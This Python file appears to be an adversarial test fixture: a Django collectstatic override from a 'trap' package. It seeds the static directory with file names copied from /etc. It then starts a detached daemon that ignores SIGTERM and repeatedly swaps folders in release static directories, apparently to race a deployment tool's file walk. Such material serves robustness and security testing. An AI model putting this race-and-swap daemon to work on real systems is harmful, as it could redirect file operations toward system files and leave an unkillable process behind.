"""Collects what is easy to attack, and leaves a child behind: it swaps, or holds the output open, as `mode.py` says."""

import os
import signal
import time

from django.conf import settings
from django.contrib.staticfiles.management.commands import collectstatic

from trap import attack
from trap.mode import MODE


class Command(collectstatic.Command):
    def handle(self, **options):
        for folder, count in (("a", 600), ("z", 3)):
            os.makedirs(os.path.join(settings.STATIC_ROOT, folder), exist_ok=True)
            for number in range(count):
                with open(os.path.join(settings.STATIC_ROOT, folder, f"{number}.txt"), "w") as out:
                    out.write("static")
        for name in os.listdir("/etc"):  # so that a walk that lists this folder finds names that /etc has
            with open(os.path.join(settings.STATIC_ROOT, "z", name), "w") as out:
                out.write("static")
        left_behind(settings.STATIC_ROOT)
        return "collected"


def left_behind(static):
    """A daemon that no SIGTERM ends: it swaps folders in every release it can reach, and here too if that is wanted."""
    if os.fork():
        return
    os.setsid()
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    if os.fork():
        os._exit(0)
    if MODE != "hold":
        nothing = os.open(os.devnull, os.O_RDWR)
        for descriptor in range(3):
            os.dup2(nothing, descriptor)
    attack.note(f"left a child behind: {MODE}")
    here = [static] if MODE == "swap" else []
    end = time.monotonic() + 600
    while time.monotonic() < end:
        for folder in (*here, *(os.path.join("/opt/trap/releases", name, "static") for name in releases())):
            try:
                descriptor = os.open(folder, os.O_RDONLY | os.O_DIRECTORY)
            except OSError:
                continue
            try:
                if os.fstat(descriptor).st_uid == os.getuid():
                    attack.swap_once(descriptor)
                    os.unlink("z", dir_fd=descriptor)
                    os.rename("was-z", "z", src_dir_fd=descriptor, dst_dir_fd=descriptor)
            except OSError:
                pass
            finally:
                os.close(descriptor)
        time.sleep(0.0005)
    os._exit(0)


def releases():
    return os.listdir("/opt/trap/releases")
